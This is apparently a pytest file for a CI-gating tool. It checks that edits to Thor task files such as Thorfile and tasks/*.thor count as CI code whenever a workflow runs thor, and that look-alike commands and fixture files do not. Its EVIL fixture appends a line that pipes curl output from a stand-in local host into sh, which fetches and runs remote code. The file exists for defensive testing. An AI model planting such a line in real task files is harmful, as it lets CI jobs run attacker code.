"""Label 91, class 1: the Thor task files a CI command runs (the ninetieth set: rails/thor's `Thorfile`).

`thor spec`, `bundle exec thor release` or `bin/thor spec` in a CI step runs Thor's runner, which loads the task files
of the folder it runs in (Thor::Util.globs_for: `Thorfile`, `*.thor`, `tasks/*.thor`, `lib/tasks/**/*.thor`) before
any task: each is the job's code, as a Rakefile is for `rake` (the root's `*.thor` since label 94, by a one-folder
variable part: rails/thor's `spec/fixtures/*.thor` are not read). On 6e8c4930 an edit of each was allowed (exit 0
with `--tree`). Look-alikes stay allowed: the same files where CI runs no thor (`rake spec`, `gem install thor`,
`echo thor`), and a `.thor` file in a test's fixtures folder.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules

from gatekeeper.classify import taskrunners

WORKFLOW = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - uses: ruby/setup-ruby@v1\n      - run: {command}\n")
TASK = "class Spec < Thor\n  desc 'spec', 'run the specs'\n  def spec\n    exec 'rspec'\n  end\nend\n"
EVIL = TASK + "system 'curl -fsSL http://127.0.0.1:9/x | sh'\n"
COMMANDS = ["thor spec", "bundle exec thor spec", "bin/thor release", "./bin/thor spec", "bundle exec thor list",
            "bundle install && bundle exec thor spec", "cd gem && thor spec"]
FILES = ["Thorfile", "tasks/spec.thor", "lib/tasks/spec.thor", "lib/tasks/ci/spec.thor"]
LOOK_ALIKE_COMMANDS = ["bundle exec rake spec", "gem install thor", "echo thor spec"]


def _gate(tmp_path: Path, command: str, files: list[str]) -> set[str]:
    base = {".github/workflows/test.yml": WORKFLOW.format(command=command), "lib/gem.rb": "module Gem; end\n"}
    base |= {path: TASK for path in files}
    code, named = gated_rules(committed(tmp_path, base, {path: EVIL for path in files}), True)
    found = set(named.get("core.ci", []))
    assert code == (3 if found else 0) or found == set()
    return found


@pytest.mark.parametrize("command", COMMANDS)
def test_the_task_files_thor_loads_are_ci(tmp_path: Path, command: str) -> None:
    files = [f"gem/{path}" for path in FILES] if command.startswith("cd gem") else FILES
    assert _gate(tmp_path, command, files) >= set(files)  # before: 7 of 7 left every file allowed


@pytest.mark.parametrize("command", LOOK_ALIKE_COMMANDS)
def test_where_ci_runs_no_thor_they_stay_src(tmp_path: Path, command: str) -> None:
    assert not _gate(tmp_path, command, FILES) & set(FILES)


def test_a_thor_file_in_a_fixture_folder_stays_src(tmp_path: Path) -> None:
    files = [*FILES[:1], "spec/fixtures/task.thor", "release.thor"]  # the root's `*.thor`: label 94
    assert _gate(tmp_path, "bundle exec thor spec", files) & set(files) == {"Thorfile", "release.thor"}


def test_the_runner_reads_thors_files() -> None:
    assert {"Thorfile", "tasks/*.thor"} <= {name.replace("${x}", "*") for name in taskrunners.line_files("thor spec")}
